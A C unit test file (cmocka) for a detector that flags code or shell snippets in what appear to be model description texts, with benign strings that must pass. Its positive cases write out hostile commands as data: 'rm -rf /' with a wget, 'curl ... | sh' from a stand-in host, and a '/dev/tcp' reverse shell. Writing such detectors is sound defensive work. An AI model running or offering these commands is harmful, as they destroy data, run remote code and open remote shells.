#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "formats/snippet.h"

static void commands_and_calls_are_found(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "import os; os.system('echo')",
        "x = __import__('os')",
        "rm -rf / && wget http://example.invalid/x",
        "curl http://example.invalid | sh",
        "<SCRIPT>alert(1)</script>",
        "Subprocess.Popen(['id'])",
        "posix.os.system('id')",
        "bash -i >& /dev/tcp/192.0.2.1/80",
    };
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        if (!tut_snippet_in(tut_str_of(texts[i])))
            fail_msg("%s passes", texts[i]);
    }
}

static void descriptions_are_no_programs(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "",
        "pt",
        "A small transformer for text classification, MIT licence",
        "https://huggingface.co/example/model?ref=main",
        "evaluation of imports and systems; executed on 8 GPUs",
        "the finish -c option; ssh -c none; mosaic_os.system(",
        "{\"ss_network_args\": \"{'conv_dim': 4}\", \"lr\": 1e-4}",
        "a | b | share && width",
    };
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        const char *found = tut_snippet_in(tut_str_of(texts[i]));
        if (found)
            fail_msg("%s is said to hold %s", texts[i], found);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(commands_and_calls_are_found),
        cmocka_unit_test(descriptions_are_no_programs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
